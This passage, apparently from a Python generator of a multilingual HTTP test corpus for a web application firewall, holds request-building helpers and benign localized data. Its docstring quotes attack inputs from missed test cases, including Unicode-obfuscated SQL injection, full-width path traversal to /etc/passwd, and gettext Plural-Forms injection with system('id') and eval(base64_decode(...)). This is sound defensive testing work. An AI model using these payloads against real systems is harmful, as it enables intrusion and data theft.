#!/usr/bin/env python3
"""Held-out HTTP test corpus: international and multilingual web traffic.

What it is
    A deterministic generator of realistic HTTP requests against sites and
    APIs that serve the whole world, running behind a sidecar WAF: shops,
    forums, news comments, maps and translation services in Chinese,
    Japanese, Korean, Arabic, Hebrew (with RLM/LRM marks), Hindi, Thai,
    Vietnamese, Russian/Ukrainian, Greek, Turkish, Polish, German, French,
    Spanish and Portuguese; search queries, reviews, forum posts, addresses
    and names with apostrophes and diacritics (O'Brien, N'Djamena,
    d'Artagnan, Ngũgĩ wa Thiong'o), emoji and ZWJ sequences, kaomoji,
    full-width punctuation (＜＞（）＇), IDN hosts and punycode,
    percent-encoded UTF-8 paths, Accept-Language / Content-Language headers,
    RFC 5987 filename*= in multipart uploads, legacy charsets (Shift_JIS,
    Big5, GBK, windows-1251, ISO-8859-1, EUC-KR) and translation management
    APIs (Crowdin / Transifex / Lokalise / Weblate JSON with ICU
    MessageFormat such as `{count, plural, one {# item} other {# items}}`
    and react-intl `<b>` tags, gettext .po uploads with Plural-Forms
    expressions, Android strings.xml, iOS .strings, Java .properties with
    \\uXXXX escapes, XLIFF with Angular `{{ name }}` placeholders).
    Text that a normaliser folds into markup, quotes and code is everywhere
    here, which makes it a hard false-positive test for a WAF that applies
    NFKC or best-fit folding.

    * benign       ~450 ordinary requests (expect "pass"), plus ~50
                   "dev-content" requests (category "dev-content", still
                   "pass"): users posting SQL, shell, PHP and JS snippets in
                   localized developer forums (Qiita-, Juejin-, Habr-,
                   Velog-like, Stack Overflow em Português / en español) and
                   mixed-language SQL tutorials; counted apart.
    * attacks      ~295 requests (expect "detect") whose payloads use
                   internationalisation tricks or sit inside multilingual
                   traffic: full-width and homoglyph `<script>`, `'`, `../`
                   (U+FF1C, U+FE64, U+FF07, U+FF0E U+FF0F, U+2215, U+2025),
                   overlong / invalid UTF-8 (%C0%AF, raw bytes), IIS %uXXXX,
                   NFKC bypasses, best-fit mapping (U+FF02, U+00B4, U+02BC,
                   U+2032), GBK/Big5 multibyte quote swallowing, bidi
                   overrides hiding `.php`, enclosed-alphanumeric / ideographic
                   full stop IDN SSRF (⑯⑨。②⑤④。⑯⑨。②⑤④), SQLi / XSS / SSTI /
                   RCE / Log4Shell / LFI inside CJK, Arabic or Cyrillic text,
                   in JSON \\uXXXX escapes, in ICU / gettext / XLIFF /
                   strings.xml / .properties uploads (XXE, Plural-Forms eval),
                   in filename*=UTF-8'' parameters, in Accept-Language and
                   other headers, UTF-7 / UTF-16 / charset-declared bodies,
                   CRLF via U+560A U+560D ("嘊嘍"), locale-parameter file
                   inclusion, prototype pollution of i18next resources, and
                   Unicode digits / Kelvin sign in framing headers.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-i18n.py attacks > rulesets/tests/data/i18n-attacks.jsonl
    python3 scripts/corpus-i18n.py benign  > rulesets/tests/data/i18n-benign.jsonl
    python3 scripts/corpus-i18n.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "i18n", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
or, for bodies in a non-UTF-8 charset (declared in Content-Type) and
request lines with raw invalid UTF-8, {"id", "set", "category", "expect",
"raw_b64"} holding the complete raw request.
Ids are "i18n/<category>/<generator>-NNN"; ordinary benign requests are
under "i18n/benign/...", dev-content under "i18n/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-06, binary /work/bin/pr-base, built-in rules, paranoia 1, threshold 5)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 295 attacks (sqli 45, xss 44, lfi 31, ssrf 25, rce 24, ssti 19,
java 18, xxe 15, crlf 15, php 13, nosql 10, generic 10, rfi 7, protocol 7,
ldap 6, scanner 6), 507 benign (457 ordinary + 50 dev-content).
(raw_b64 lines: 9 attacks (UTF-16 / EUC-KR bodies, raw overlong bytes in the
request line) and 8 benign legacy_charset bodies (ISO-8859-1, EUC-KR,
Shift_JIS, Big5, GB18030).  protocol/unicode-framing-001..004 and -006 carry
deliberate framing headers (Kelvin-sign "chunKed", Arabic-Indic and
full-width Content-Length digits, "Tranſfer-Encoding", NBSP after
"chunked") instead of the automatic Content-Length; every other body's
Content-Length is its byte length.  Dev-content ids are numbered by one
counter across their generators.)

PL1 (flagged = blocked at paranoia 1):
  attacks blocked   285/295 = 96.6 %  (100 % in crlf, generic, java, ldap,
                    nosql, rce, rfi, scanner, ssrf, xxe; xss 43/44,
                    ssti 18/19, lfi 29/31, sqli 42/45, php 11/13,
                    protocol 6/7)
  benign blocked    13/457 = 2.8 % ordinary, 40/50 = 80.0 % dev-content
                    (ja_posts 5/6, zh_posts 5/5, forum_posts 6/8,
                    velog_graphql 2/2, stackoverflow_l10n 4/4,
                    sql_tutorial 14/20, paste 4/5; mostly sqli-011,
                    rce-102, rce-101, sqli-041, sqli-002)

Missed at PL1 (10):
  xss/translation-007            XLIFF target "&lt;script&gt;alert(...)" (XML
                                 entity-escaped markup in a Crowdin upload)
  sqli/bestfit-001               "admin\u00b4 OR 1=1--" (acute accent as quote,
                                 ASP.NET login form; sqli-002 scored 4 < 5)
  sqli/bestfit-003               "x\u2032 or \u20321\u2032=\u20321" (prime as quote)
  sqli/iis-u-003                 %u2019 quotes: x%u2019 or %u20191%u2019=%u20191
  lfi/fullwidth-003              "．．∕．．∕．．∕etc∕passwd" (U+FF0E + U+2215)
  lfi/json-002                   JSON "template": "..∕..∕..∕..∕etc∕passwd" (U+2215)
  php/po-plural-001, -002        gettext Plural-Forms code injection
                                 (plural=n!=1;system('id'); and
                                 eval(base64_decode($_GET[x]))) in .po uploads
  ssti/templates-019             Jinja payload appended to Accept-Language
  protocol/unicode-framing-005   Host: full-width "ｌｏｃａｌｈｏｓｔ"
Ordinary benign flagged at PL1 (13):
  benign/legacy_charset-002, -007, -009, -011, -012, -013, -015, -016
                                 protocol-130 on a CJK legacy charset
                                 declared in Content-Type (Big5, Shift_JIS,
                                 GB18030, GBK): raw text/csv and text/plain
                                 bodies and percent-encoded form posts
                                 (ISO-8859-1, windows-1252, EUC-KR, EUC-JP,
                                 windows-1251 passed)
  benign/json_escaped-001, -004, -005, -009, -010
                                 rce-102 on Go-escaped rich text
                                 "\u0026amp; more\u003c/p\u003e" (decodes to
                                 "&amp; more</p>")
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "i18n"

# ---------------------------------------------------------------------------
# clients
# ---------------------------------------------------------------------------

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
]
LOCAL_UAS = {
    "zh-CN": ["Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.50(0x1800323c) NetType/WIFI Language/zh_CN",
              "Mozilla/5.0 (Linux; U; Android 13; zh-CN; V2227A Build/TP1A.220624.014) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/17.1.8.1343 Mobile Safari/537.36"],
    "ja": ["Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.17.0"],
    "ko": ["Mozilla/5.0 (Linux; Android 14; SM-S921N Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36;KAKAOTALK 2410530",
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Whale/3.28.266.14 Safari/537.36"],
    "ru": ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 YaBrowser/24.10.0.0 Safari/537.36"],
}
API_UAS = [
    "python-requests/2.32.3", "axios/1.7.7", "okhttp/4.12.0", "Dart/3.5 (dart:io)", "Go-http-client/1.1",
    "curl/8.5.0", "Java/17.0.9", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
]

LOCALES = {
    "zh-CN": "zh-CN,zh;q=0.9,en;q=0.8",
    "zh-TW": "zh-TW,zh-Hant;q=0.9,zh;q=0.8,en-US;q=0.7,en;q=0.6",
    "ja": "ja,en-US;q=0.9,en;q=0.8",
    "ko": "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7",
    "ar": "ar-SA,ar;q=0.9,en-US;q=0.8,en;q=0.7",
    "he": "he-IL,he;q=0.9,en-US;q=0.8,en;q=0.7",
    "hi": "hi-IN,hi;q=0.9,en-IN;q=0.8,en;q=0.7",
    "th": "th-TH,th;q=0.9,en;q=0.8",
    "vi": "vi-VN,vi;q=0.9,fr-FR;q=0.8,fr;q=0.7,en-US;q=0.6,en;q=0.5",
    "ru": "ru-RU,ru;q=0.9,en-US;q=0.8,en;q=0.7",
    "uk": "uk-UA,uk;q=0.9,ru;q=0.8,en-US;q=0.7,en;q=0.6",
    "el": "el-GR,el;q=0.9,en;q=0.8",
    "tr": "tr-TR,tr;q=0.9,en-US;q=0.8,en;q=0.7",
    "pl": "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7",
    "de": "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "fr": "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7",
    "es": "es-ES,es;q=0.9",
    "pt": "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7",
    "en": "en-US,en;q=0.9",
}
LANGS = list(LOCALES)

SHOPS = {
    "zh-CN": "www.hongmall.cn", "zh-TW": "www.lianhe-shop.com.tw", "ja": "shop.sakura-ec.jp", "ko": "www.hanbit-mall.co.kr",
    "ar": "souq.alnoor.sa", "he": "www.shuk-online.co.il", "hi": "www.bazaar-bharat.in", "th": "www.talad-thai.co.th",
    "vi": "shop.saigon-market.vn", "ru": "market.berezka.ru", "uk": "shop.kalyna.ua", "el": "www.agora-online.gr",
    "tr": "www.carsi.com.tr", "pl": "sklep.wisla.pl", "de": "shop.kaufhaus-nord.de", "fr": "boutique.lamaison.fr",
    "es": "tienda.elsol.es", "pt": "loja.brasilmais.com.br", "en": "shop.acme-global.com",
}
FORUMS = {
    "zh-CN": "bbs.hongmall.cn", "zh-TW": "forum.lianhe-shop.com.tw", "ja": "bbs.sakura-ec.jp", "ko": "cafe.hanbit-mall.co.kr",
    "ar": "muntada.alnoor.sa", "he": "forum.shuk-online.co.il", "hi": "forum.bazaar-bharat.in", "th": "webboard.talad-thai.co.th",
    "vi": "diendan.saigon-market.vn", "ru": "forum.berezka.ru", "uk": "forum.kalyna.ua", "el": "forum.agora-online.gr",
    "tr": "forum.carsi.com.tr", "pl": "forum.wisla.pl", "de": "forum.kaufhaus-nord.de", "fr": "forum.lamaison.fr",
    "es": "foro.elsol.es", "pt": "forum.brasilmais.com.br", "en": "community.acme-global.com",
}
NEWS = {"ar": "news.alnoor.sa", "he": "news.shuk-online.co.il", "ru": "news.berezka.ru", "zh-CN": "news.hongmall.cn",
        "ja": "news.sakura-ec.jp", "ko": "news.hanbit-mall.co.kr", "fr": "actu.lamaison.fr", "de": "nachrichten.kaufhaus-nord.de"}


def q(params):
    return urlencode(params, quote_via=quote, safe="")


def qf(params):
    """application/x-www-form-urlencoded the way a browser form sends it."""
    return urlencode(params, quote_via=quote_plus, safe="")


def idna_host(host):
    name, _, port = host.partition(":")
    if all(ord(c) < 128 for c in name):
        return host
    enc = name.encode("idna").decode("ascii")
    return enc + (":" + port if port else "")


def enc_path(path):
    # what a browser puts on the wire: non-ASCII and a few specials escaped, ' ( ) kept
    return quote(path, safe="/-._~!$&'()*+,;=:@%")


def mk(rid, cat, expect, method, host, path, params=None, raw_query=None, body=None, ctype=None,
       ua=None, extra=None, rng=None, browser=False, lang="en", accept=None, raw_path=False,
       no_lang=False, framing=None, raw_host=False):
    """framing: headers that replace the automatic Content-Length (deliberate framing tests);
    raw_host: send the Host value as given, not IDNA-encoded."""
    r = rng or random.Random(rid)
    uri = path if raw_path else enc_path(path)
    if params:
        uri += "?" + (params if isinstance(params, str) else (qf(params) if browser else q(params)))
    elif raw_query:
        uri += "?" + raw_query
    h = [["Host", host if raw_host else idna_host(host)]]
    if ua is None:
        if browser:
            ua = r.choice(UAS + LOCAL_UAS.get(lang, []) * 2)
        else:
            ua = r.choice(API_UAS)
    h.append(["User-Agent", ua])
    if accept is None:
        accept = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
                  if browser and (method == "GET" or (ctype or "").startswith("application/x-www-form-urlencoded"))
                  else "application/json, text/plain, */*")
    h.append(["Accept", accept])
    if browser and not no_lang:
        h.append(["Accept-Language", LOCALES.get(lang, lang)])
        h.append(["Accept-Encoding", "gzip, deflate, br, zstd"])
    for e in extra or []:
        h.append(list(e))
    if body is not None:
        h.append(["Content-Type", ctype or "application/json"])
        if framing is None:
            h.append(["Content-Length", str(len(body.encode("utf-8")))])
        else:
            h += [list(f) for f in framing]
    d = {"id": rid, "set": SET, "category": cat, "expect": expect, "method": method,
         "uri": uri, "version": "HTTP/1.1", "headers": h}
    if body is not None:
        d["body"] = body
    return d


def mk_raw(rid, cat, expect, method, host, uri, headers, body=b"", lang=None, ua=None, rng=None, no_cl=False):
    """Complete raw request (bytes) for non-UTF-8 bodies or raw bytes in the request line.
    no_cl: the headers given carry the framing (Content-Length / Transfer-Encoding) themselves."""
    r = rng or random.Random(rid)
    if isinstance(uri, str):
        uri = uri.encode("ascii")
    lines = [method.encode() + b" " + uri + b" HTTP/1.1"]
    if not any(k.lower() == "host" for k, _ in headers):
        lines.append(b"Host: " + idna_host(host).encode())
    lines.append(b"User-Agent: " + (ua or r.choice(UAS)).encode())
    if lang:
        lines.append(b"Accept-Language: " + LOCALES.get(lang, lang).encode())
    for k, v in headers:
        lines.append(k.encode("utf-8") + b": " + (v if isinstance(v, bytes) else v.encode("utf-8")))
    if not no_cl and (body or method in ("POST", "PUT", "PATCH")):
        lines.append(b"Content-Length: " + str(len(body)).encode())
    raw = b"\r\n".join(lines) + b"\r\n\r\n" + body
    return {"id": rid, "set": SET, "category": cat, "expect": expect, "raw_b64": base64.b64encode(raw).decode("ascii")}


def js(o):
    return json.dumps(o, ensure_ascii=False)


def jsa(o):
    """JSON as ensure_ascii clients (Python json, Jackson with ESCAPE_NON_ASCII) send it."""
    return json.dumps(o)


def jsgo(o):
    """JSON as Go's encoding/json sends it: non-ASCII raw, <, >, & as \\u003c \\u003e \\u0026."""
    return json.dumps(o, ensure_ascii=False).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


def jsu(o):
    """JSON whose string values carry literal \\uXXXX escapes written in the payload."""
    return json.dumps(o, ensure_ascii=False).replace("\\\\u", "\\u")


def uuid(r):
    return "%08x-%04x-4%03x-%04x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12),
                                             0x8000 | r.getrandbits(14), r.getrandbits(48))


def hexid(r, n=24):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def alnum(r, n):
    return "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))


def boundary(r, ua=""):
    if "Firefox" in ua:
        return "-" * 27 + "".join(r.choice("0123456789") for _ in range(29))
    if ua.startswith("curl") or ua.startswith("python"):
        return hexid(r, 32)
    return "----WebKitFormBoundary" + alnum(r, 16)


def multipart(b, parts):
    """parts: (name, value) or (name, filename-header-params, content-type, content)."""
    out = []
    for p in parts:
        out.append("--" + b)
        if len(p) == 2:
            out.append('Content-Disposition: form-data; name="%s"' % p[0])
            out.append("")
            out.append(p[1])
        else:
            out.append('Content-Disposition: form-data; name="%s"; %s' % (p[0], p[1]))
            out.append("Content-Type: " + p[2])
            out.append("")
            out.append(p[3])
    out.append("--" + b + "--")
    out.append("")
    return "\r\n".join(out)


def fn_plain(name):
    return 'filename="%s"' % name.replace('"', "%22")


def fn_5987(name, fallback=None):
    fb = fallback or "".join(c if ord(c) < 128 else "_" for c in name)
    return "filename=\"%s\"; filename*=UTF-8''%s" % (fb, quote(name, safe=""))


def fn_urllib3(name):
    # urllib3 < 2 (requests) wrote non-ASCII names in RFC 2231 form only
    return "filename*=utf-8''%s" % quote(name, safe="")


# ---------------------------------------------------------------------------
# people, places, text
# ---------------------------------------------------------------------------

NAMES = [
    ("Seán", "O'Brien", "ie"), ("Dara", "Ó Briain", "ie"), ("Ngũgĩ", "wa Thiong'o", "ke"), ("Zoë", "D'Arcy", "gb"),
    ("Renée-Lise", "d'Artagnan", "fr"), ("José María", "Núñez", "es"), ("Björk", "Guðmundsdóttir", "is"),
    ("Łukasz", "Żółkiewski", "pl"), ("Đặng Thị", "Ngọc Thịnh", "vn"), ("Nguyễn Văn", "Anh", "vn"), ("Ólafur", "Arnalds", "is"),
    ("Ahmad", "al-Rashīd", "sa"), ("太郎", "山田", "jp"), ("민준", "김", "kr"), ("Мария", "Иванова", "ru"), ("Олександр", "Шевченко", "ua"),
    ("Γιώργος", "Παπαδόπουλος", "gr"), ("Ayşe", "Yılmaz", "tr"), ("İbrahim", "Çelik", "tr"), ("Jürgen", "Müller-Lüdenscheidt", "de"),
    ("João", "Conceição", "br"), ("Françoise", "L'Hôte", "fr"), ("Kealoha", "Kaʻahumanu", "us"), ("Mahmoud", "ʿAbbās", "ps"),
    ("Shira", "Ben-David", "il"), ("Priya", "Rāmachandran", "in"), ("Somchai", "Sukprasert", "th"), ("伟", "王", "cn"),
    ("Chloé", "N'Diaye", "sn"), ("Siobhán", "Ní Mhaoldhomhnaigh", "ie"), ("Giovanni", "D'Angelo", "it"), ("Ma'afu", "Tupou", "to"),
]
CITIES = ["N'Djamena", "Côte d'Ivoire", "L'Aquila", "Reggio nell'Emilia", "Val-d'Or", "Dún Laoghaire", "Kraków", "İzmir",
          "Łódź", "Thành phố Hồ Chí Minh", "München", "Zürich", "São Paulo", "Thessaloníki", "Kyiv", "Nizhny Novgorod",
          "東京都", "大阪市", "서울특별시", "北京市", "臺北市", "دبي", "תל אביב-יפו", "กรุงเทพมหานคร", "मुंबई", "Hawaiʻi Kai"]
ADDRESSES = {
    "ja": ("〒100-0005", "東京都千代田区丸の内1丁目9-1 グラントウキョウノースタワー 10F", "東京都"),
    "ko": ("06236", "서울특별시 강남구 테헤란로 152 (역삼동, 강남파이낸스센터) 21층", "서울특별시"),
    "zh-CN": ("100022", "北京市朝阳区建国路88号 SOHO现代城A座 2101室", "北京市"),
    "zh-TW": ("110", "臺北市信義區信義路五段7號（台北101）89樓", "臺北市"),
    "ru": ("190000", "г. Санкт-Петербург, ул. Большая Морская, д. 5, кв. 12", "Санкт-Петербург"),
    "uk": ("01001", "м. Київ, вул. Хрещатик, 22, кв. 7", "Київ"),
    "ar": ("12611", "شارع الملك فهد، حي العليا، مبنى ٤٥، الرياض", "الرياض"),
    "he": ("6473921", "רחוב הרצל 15, דירה 4, תל אביב-יפו", "תל אביב-יפו"),
    "hi": ("400001", "फ्लैट 12, शिवाजी मार्ग, कोलाबा, मुंबई", "मुंबई"),
    "th": ("10330", "999/9 ถนนพระราม 1 แขวงปทุมวัน เขตปทุมวัน", "กรุงเทพมหานคร"),
    "vi": ("700000", "12 Đường Nguyễn Huệ, Phường Bến Nghé, Quận 1", "Thành phố Hồ Chí Minh"),
    "el": ("546 24", "Λεωφόρος Νίκης 12, 3ος όροφος", "Θεσσαλονίκη"),
    "tr": ("34367", "Halaskargazi Cd. No:38 D:4, Şişli", "İstanbul"),
    "pl": ("90-001", "ul. Piotrkowska 104 m. 7", "Łódź"),
    "de": ("10557", "Straße des 17. Juni 135, Hinterhaus, 3. OG", "Berlin"),
    "fr": ("75004", "12, rue de l'Église, Bât. B, 2ᵉ étage", "Paris"),
    "es": ("08008", "C/ d'Aragó, 255, 3º 2ª", "Barcelona"),
    "pt": ("01310-200", "Av. Paulista, 1578 – Bela Vista, apto 42", "São Paulo"),
    "en": ("N'Djamena", "Avenue Charles de Gaulle, BP 1234", "N'Djamena"),
}

SEARCH = {
    "zh-CN": ["蓝牙耳机 降噪", "小米14 Ultra 手机壳", "儿童 羽绒服 冬季", "MySQL 数据库 union 查询 书籍", "script 字体 下载", "union pay 优惠券",
              "select 系列 运动鞋", "Python 编程：从入门到实践（第3版）", "iPhone 15 充电器 快充 20W", "空气炸锅 家用 大容量"],
    "zh-TW": ["珍珠奶茶 外送", "機械鍵盤 青軸", "台北 住宿 推薦", "繁體中文 輸入法 script", "許功蓋 字型"],
    "ja": ["ワイヤレスイヤホン ノイズキャンセリング", "無印良品 収納ケース", "【公式】ユニクロ ヒートテック", "東京 ラーメン ランキング",
           "JavaScript 入門 本", "スクリプト 自動化 select文", "北海道 旅行 2泊3日", "ソフトバンク 表示 できない", "ドラゴンクエスト（DQ）攻略"],
    "ko": ["무선 이어폰 추천", "겨울 패딩 여성", "서울 맛집", "삼성 갤럭시 S24 케이스", "SQL select 문법 책", "제주도 렌터카 (1박 2일)"],
    "ar": ["هاتف سامسونج جالكسي", "مطاعم في دبي", "كتب تعلم البرمجة", "عطر عود رجالي", "ساعة ذكية ‏(أبل)"],
    "he": ["דירות להשכרה בתל אביב", "מתכון חומוס", "אוזניות אלחוטיות", "ספרי ילדים \"הארי פוטר\""],
    "hi": ["सस्ते मोबाइल फोन", "दिल्ली से मुंबई ट्रेन", "हिंदी समाचार आज", "साड़ी (बनारसी)"],
    "th": ["ร้านอาหารใกล้ฉัน", "โทรศัพท์มือถือ ราคาถูก", "ตั๋วเครื่องบิน กรุงเทพ เชียงใหม่"],
    "vi": ["điện thoại giá rẻ", "phở bò Hà Nội", "vé máy bay Sài Gòn – Đà Nẵng", "Nguyễn Du \"Truyện Kiều\""],
    "ru": ["купить зимние шины", "ремонт квартиры под ключ", "рецепт борща", "билеты Москва — Санкт-Петербург", "чехол для iPhone 15 (кожа)"],
    "uk": ["квитки Київ Львів", "купити ноутбук", "рецепт вареників з картоплею", "м'ясо яловичина"],
    "el": ["ξενοδοχεία Σαντορίνη", "εισιτήρια πλοίου Πειραιάς", "ελαιόλαδο Κρήτης 5L"],
    "tr": ["İstanbul otel fiyatları", "kışlık mont erkek", "Türk kahvesi makinesi", "ılık su ısıtıcısı"],
    "pl": ["mieszkania na sprzedaż Kraków", "żółw wodny akwarium", "przepis na pierogi ruskie"],
    "de": ["Größe 42 Schuhe", "Straßenbahn Fahrplan München", "Kühlschrank mit Gefrierfach", "Bücher über \"Faust\""],
    "fr": ["hôtel près de l'aéroport", "crème brûlée recette", "billets d'avion pas cher", "l'Oréal shampooing"],
    "es": ["zapatillas de niño", "¿dónde comer en Madrid?", "año nuevo ofertas", "cafetera italiana (6 tazas)"],
    "pt": ["apartamento à venda São Paulo", "pão de queijo receita", "promoção de celular", "tênis masculino nº 42"],
    "en": ["O'Brien's pub Dublin", "Ngũgĩ wa Thiong'o books", "N'Djamena flights", "d'Artagnan musketeers dvd"],
}

REVIEWS = {
    "zh-CN": ["质感很好，物超所值！👍", "物流很快，包装完好，五星好评⭐⭐⭐⭐⭐", "颜色和图片有点差别（偏暗），总体还行。", "第二次回购了，老公说很好用😂"],
    "zh-TW": ["出貨很快，東西很漂亮，會再回購！", "尺寸偏小，建議買大一號（平常穿M）。"],
    "ja": ["サイズ感もぴったり（普段Mサイズ）。また買います♪", "【注意】色が写真と少し違います。＜ネイビー＞は黒に近いです。", "梱包が丁寧でした！(＾▽＾)",
           "値段の割に質が良い。★5つ！", "届くのが遅かった…（注文から10日）"],
    "ko": ["배송이 빨라서 좋아요 😊", "생각보다 작아요ㅠㅠ 한 치수 크게 주문하세요", "가성비 최고! 재구매 의사 있어요 👍"],
    "ar": ["منتج رائع ‏👍 أنصح به", "التوصيل كان سريعاً، شكراً لكم", "الجودة ممتازة لكن السعر مرتفع قليلاً"],
    "he": ["מוצר מעולה, ממליץ בחום!", "המשלוח לקח 3 שבועות ‏(!)", "איכות טובה ביחס למחיר"],
    "hi": ["बहुत बढ़िया उत्पाद 👌", "डिलीवरी समय पर हुई, धन्यवाद!"],
    "th": ["สินค้าดีมาก ส่งไว 👍", "แพ็คของดีมากค่ะ จะกลับมาซื้ออีก 555"],
    "vi": ["Rất hài lòng, sẽ ủng hộ shop tiếp ❤️", "Giao hàng nhanh, đóng gói cẩn thận."],
    "ru": ["Отличный товар, рекомендую!", "Размер маломерит — берите на размер больше.", "Доставка «Почтой России» заняла 2 недели :("],
    "uk": ["Чудова якість, дякую! 🇺🇦", "Прийшло швидко, все працює."],
    "el": ["Πολύ καλό προϊόν!", "Γρήγορη αποστολή, ευχαριστώ."],
    "tr": ["Ürün çok güzel, teşekkürler 🙏", "Kargo biraz geç geldi ama ürün kaliteli."],
    "pl": ["Świetny produkt, polecam!", "Rozmiar zgodny z opisem, szybka wysyłka."],
    "de": ["Super Qualität – gerne wieder 😊", "Passt perfekt, aber die Lieferung dauerte 5 Werktage.", "Für den Preis völlig in Ordnung („gut“)."],
    "fr": ["Très bon produit, mais la livraison était un peu lente…", "Conforme à la description, je recommande !", "C'est l'article qu'il me fallait 👌"],
    "es": ["¡Me encantó! 10/10 💯", "Llegó a tiempo y bien embalado.", "La talla es pequeña, pedid una más."],
    "pt": ["Produto excelente, chegou antes do prazo 🇧🇷", "Não gostei da cor, mas a qualidade é boa."],
    "en": ["Bought it for my mum's birthday – she loved it!", "Doesn't fit the O'Neill wetsuit I have, returned."],
}

FORUM_POSTS = {
    "zh-CN": ["帮我 check 一下这个 order，一直显示“待发货”。", "我 select 了 express 配送，但是 order 还是显示 standard，怎么回事？",
              "union pay 付款失败，提示“交易受限”，有人遇到过吗？", "用 Tampermonkey 的 script 抢票靠谱吗？（不是打广告）",
              "今天的 meeting 改到 3 点，记得 update 一下 schedule。", "工会（union）的活动下周六举行，请大家在表格里 select 自己的时间段。"],
    "ja": ["ドロップ（drop）率が低すぎる…運営さん何とかして", "「select」ボタンが反応しないのは私だけ？ｗ", "新しいスクリプト（script）機能、便利すぎる！",
           ">>12 それな。公式の発表待ち", "来週の＜オフ会＞参加します！よろしくお願いします（´・ω・｀）"],
    "ko": ["혹시 이 게임 drop rate 아시는 분?", "union 카드로 결제했는데 환불은 어떻게 하나요?", "오늘 업데이트 이후로 select 메뉴가 안 보여요 ㅠㅠ"],
    "ru": ["Кто-нибудь знает, как выбрать (select) язык в меню? Не могу найти…", "Спасибо, помогло! P.S. «Союз» (union) — это про кооператив, не про SQL :)",
           "Обновился до 2.4 — всё работает, но шрифты «поехали»."],
    "uk": ["Підкажіть, будь ласка, де знайти налаштування мови?", "Дякую всім за відповіді! Тема закрита."],
    "ar": ["السلام عليكم، هل يوجد تحديث للتطبيق؟", "شكراً جزيلاً على المساعدة ‏🙏"],
    "he": ["מישהו יודע מתי חוזר המלאי?", "תודה רבה! עזרתם לי מאוד."],
    "de": ["Hat jemand Erfahrung mit dem „Union“-Tarif? Lohnt sich das?", "Danke! Hab's jetzt über „Einstellungen → Sprache“ gefunden."],
    "fr": ["Quelqu'un sait où trouver l'option « langue » ? J'ai cherché partout…", "Merci ! C'était dans « Paramètres > Région »."],
    "es": ["¿Alguien sabe cuándo vuelve el stock? ¡Gracias!", "Lo he probado y funciona, ¡mil gracias!"],
    "pt": ["Alguém sabe se o cupom \"BLACK10\" ainda vale?", "Valeu, pessoal! Resolvido."],
    "tr": ["Merhaba, kargo takip numarası nerede görünüyor?", "Teşekkürler, sorun çözüldü 👍"],
    "vi": ["Cho mình hỏi shop có ship ra Hà Nội không ạ?", "Cảm ơn mọi người nhiều nha!"],
}

FULLWIDTH_TITLES = [
    ("ja", "【２個セット】＜送料無料＞ステンレス水筒（５００ｍｌ）"), ("ja", "＜新品＞ワイヤレスマウス（ブラック）＊国内正規品"),
    ("ja", "［限定］＜＜冬のセール＞＞最大５０％ＯＦＦ！"), ("ja", "「ＳＱＬ入門」第３版（翔泳社）"),
    ("ja", "Ｔシャツ　メンズ　＂ＢＡＳＩＣ＂　Ｌサイズ"), ("ja", "お客様の声：＇とても満足＇（４０代・女性）"),
    ("zh-CN", "【官方旗舰店】＜正品保证＞运动鞋（男款）４２码"), ("zh-CN", "限时特价！！＜买一送一＞／每人限购２件"),
    ("zh-CN", "“双十一”预售：定金￥５０抵￥１００（仅限ＡＰＰ）"), ("zh-TW", "［預購］＜限量＞公仔（附特典）"),
    ("ko", "［무료배송］＜1+1＞ 텀블러 (５００ml)"), ("ja", "ファイル名：資料／２０２６年度／見積書．ｐｄｆ"),
